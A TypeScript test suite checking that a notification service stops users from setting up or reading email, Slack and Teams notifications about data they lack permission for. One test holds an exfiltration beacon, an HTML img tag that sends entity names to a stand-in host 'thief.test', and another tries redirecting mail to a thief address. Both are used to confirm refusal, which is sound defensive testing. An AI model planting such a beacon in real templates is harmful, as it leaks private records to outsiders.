import assert from 'node:assert/strict';
import { after, before, beforeEach, test } from 'node:test';
import { startApp, type TestApp, type TestCaller, type TestOrganization } from '../../../test/app.ts';
import { idOf } from '../../../test/examples/example.ts';
import { until } from '../../../test/until.ts';
import { decodeId } from '../../kit/ids.ts';

// Decision 0181: nobody can have others notified of what they may not read, or read what others were notified of.

let app: TestApp;
let organization: TestOrganization;
/** Holds the permissions of notifications, and may read offers. */
let herald: TestCaller;
before(async () => {
  app = await startApp({}, { mailer: { send: async () => {} } });
});
after(() => app.close());

let count = 0;
beforeEach(async () => {
  count += 1;
  organization = await app.addOrganization(`herald-${count}`);
  const permissions = ['notification:read', 'notification:write', 'offer:read'];
  const role = await organization.owner.call('POST', '/role', { body: { name: 'Herald', permissions } });
  herald = await organization.addPerson('CUSTOM', decodeId('role', idOf(role)) ?? '');
});

const configure = (caller: TestCaller, body: object) => caller.call('PATCH', '/notificationConfigInfo', { body });
const mails = (...scopes: string[]) => ({
  emailNotificationConfigs: scopes.map((scope) => ({ scope, toEmails: ['outside@herald.test'] })),
});

type Listed = { notificationMessages: { id: string; recipient: string; info: { subject: string } }[] };
const messages = async (caller: TestCaller, query = '') =>
  ((await caller.call('GET', `/notificationMessage?${query}`)).body as Listed).notificationMessages;

test('nobody has people notified by mail or chat of what they may not read', async () => {
  const refused = await configure(herald, mails('CREATE.OFFER', 'CREATE.CONTACT'));
  assert.equal(refused.status, 403, refused.text);
  assert.match(refused.text, /contact:read/);
  assert.doesNotMatch(refused.text, /offer:read/);
  assert.equal((await configure(herald, mails('CREATE.OFFER'))).status, 200);
  const slack = { enabled: true, webhookUrl: 'https://hooks.slack.com/services/T0/B0/x1' };
  assert.equal((await configure(herald, { slack: { ...slack, scopes: ['CREATE.OFFER'] } })).status, 200);
  for (const scopes of [['CREATE.CONTACT'], []]) {
    assert.equal((await configure(herald, { slack: { ...slack, scopes } })).status, 403, `${scopes}`);
    assert.equal((await configure(herald, { microsoftTeams: { ...slack, scopes } })).status, 403, `${scopes}`);
  }
});

test('the text of a mail, too, is written by someone who may read what it contains', async () => {
  const words = (id: string, html: string) => ({ id, name: id, subject: '{{title}}', text: '{{message}}', html });
  const decided = (scope: string, templateId: string) => ({ scope, toEmails: ['owner@herald.test'], templateId });
  const rules = {
    emailNotificationConfigs: [decided('CREATE.CONTACT', 'contacts'), decided('CREATE.OFFER', 'offers')],
  };
  const templates = [words('contacts', '<p>{{message}}</p>'), words('offers', '<p>{{message}}</p>')];
  assert.equal((await configure(organization.owner, { ...rules, templates })).status, 200);
  // Opening such a mail would reveal its content to the server of the picture.
  const beacon = '<img src="https://thief.test/?{{entityName}}">';
  const [contacts, offers] = templates as [object, object];
  const refused = await configure(herald, { templates: [words('contacts', beacon), offers] });
  assert.equal(refused.status, 403, refused.text);
  assert.match(refused.text, /contact:read/);
  const own = await configure(herald, { templates: [contacts, words('offers', beacon), words('unused', beacon)] });
  assert.equal(own.status, 200, own.text);
  assert.equal(
    (await configure(organization.owner, { templates: [words('contacts', beacon)], ...mails() })).status,
    200,
  );
});

test('settings of others stay, and may be removed, but not sent elsewhere', async () => {
  const slack = { enabled: true, webhookUrl: 'https://hooks.slack.com/services/T0/B0/x1', scopes: ['CREATE.CONTACT'] };
  assert.equal((await configure(organization.owner, { ...mails('CREATE.CONTACT'), slack })).status, 200);
  const both = await configure(herald, mails('CREATE.CONTACT', 'CREATE.OFFER'));
  assert.equal(both.status, 200, both.text);
  const elsewhere = { ...slack, webhookUrl: 'https://hooks.slack.com/services/T0/B0/other' };
  assert.equal((await configure(herald, { slack: elsewhere })).status, 403);
  const thief = { emailNotificationConfigs: [{ scope: 'CREATE.CONTACT', toEmails: ['thief@herald.test'] }] };
  assert.equal((await configure(herald, thief)).status, 403);
  assert.equal((await configure(herald, { ...mails('CREATE.OFFER'), slack: { enabled: false } })).status, 200);
});

test('a message is read by those who may read its subject', async () => {
  const { owner } = organization;
  assert.equal((await configure(owner, mails('CREATE.CONTACT', 'CREATE.OFFER'))).status, 200);
  await owner.call('POST', '/contact', { body: { name: 'Ada Secret', emailAddress: 'ada@herald.test' } });
  const ticket = { name: 'Secret trouble', description: 'nobody else' };
  await owner.call('POST', '/support/ticket', { body: ticket });
  await until('both are told', async () => (await messages(owner)).length === 2);
  for (const caller of [organization.viewer, organization.editor]) assert.equal((await messages(caller)).length, 2);
  const texts = (await messages(owner)).map(({ info }) => info.subject).join();
  assert.match(texts, /Ada Secret/);
  assert.match(texts, /Secret trouble/);
  assert.deepEqual(await messages(herald), []);
  assert.deepEqual(await messages(herald, 'keyword=Secret'), []);
  for (const { id } of await messages(owner)) {
    assert.equal((await owner.call('GET', `/notificationMessage/${id}`)).status, 200);
    const reply = await herald.call('GET', `/notificationMessage/${id}`);
    assert.equal(reply.status, 404);
    assert.doesNotMatch(reply.text, /Secret/);
  }
  const test = await herald.call('POST', '/notificationConfigInfo/test', { body: { channel: 'EMAIL' } });
  assert.equal(test.status, 200, test.text);
  assert.equal((await messages(herald)).length, 1, 'made-up words are for everybody');
});

test('a digest, which contains events of every kind, is read by those who may read all of them', async () => {
  const { owner, viewer } = organization;
  const digest = { mode: 'HOURLY' };
  assert.equal((await configure(owner, { ...mails('CREATE.OFFER', 'CREATE.CONTACT'), digest })).status, 200);
  await owner.call('POST', '/contact', { body: { name: 'Ada Secret', emailAddress: 'ada@digest.test' } });
  await app.app.engine.idle();
  app.clock.advance(2 * 3_600_000);
  await until('the digest is written', async () => (await messages(owner)).length === 1);
  for (const caller of [viewer, herald]) assert.deepEqual(await messages(caller), []);
});

test('the events of messages, which contain their texts, are for those who may read everything', async () => {
  const { owner } = organization;
  await owner.call('POST', '/support/ticket', { body: { name: 'Secret trouble', description: 'nobody else' } });
  await app.app.engine.idle();
  const events = async (caller: TestCaller, query = '') =>
    (await caller.call('GET', `/event?limit=1000&${query}`)).text;
  assert.match(await events(owner), /message\.created/);
  assert.doesNotMatch(await events(herald), /Secret|message\./);
  assert.equal((await herald.call('GET', '/event?types=message.created')).status, 403);
});
